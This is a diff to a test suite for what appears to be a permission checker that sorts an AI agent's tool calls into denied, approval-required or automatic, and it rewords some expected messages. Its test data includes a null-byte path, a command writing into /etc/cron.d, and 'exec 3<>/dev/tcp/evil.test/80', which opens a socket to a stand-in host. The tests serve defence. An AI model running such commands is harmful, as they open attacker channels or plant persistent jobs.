@@ -65,7 +65,9 @@ describe("the reason of a decision", () => {
 
 describe("an unusable path", () => {
   it.each(["Read", "Write", "Edit"])("is refused for %s", (tool) => {
-    expect(explain(tool, { filePath: "a\0b" })).toContain("deny protected: The path holds control");
+    expect(explain(tool, { filePath: "a\0b" })).toContain(
+      "deny protected: The path contains control",
+    );
   });
 
   it.each(["Glob", "Grep"])("is refused for %s", (tool) => {
@@ -81,7 +83,7 @@ describe("an unusable path", () => {
 
 describe("calls that always need approval", () => {
   it.each([
-    ["Bash", { command: "touch /etc/cron.d/$X" }, "approve protected: It may change what"],
+    ["Bash", { command: "touch /etc/cron.d/$X" }, "approve protected: It may change a program"],
     ["Bash", { command: "touch $X/.git/config" }, "approve protected: It may change the inside"],
     ["Bash", { command: "touch $X" }, "auto mode"],
     ["Bash", { command: "exec 3<>/dev/tcp/evil.test/80" }, "approve protected: It opens a"],
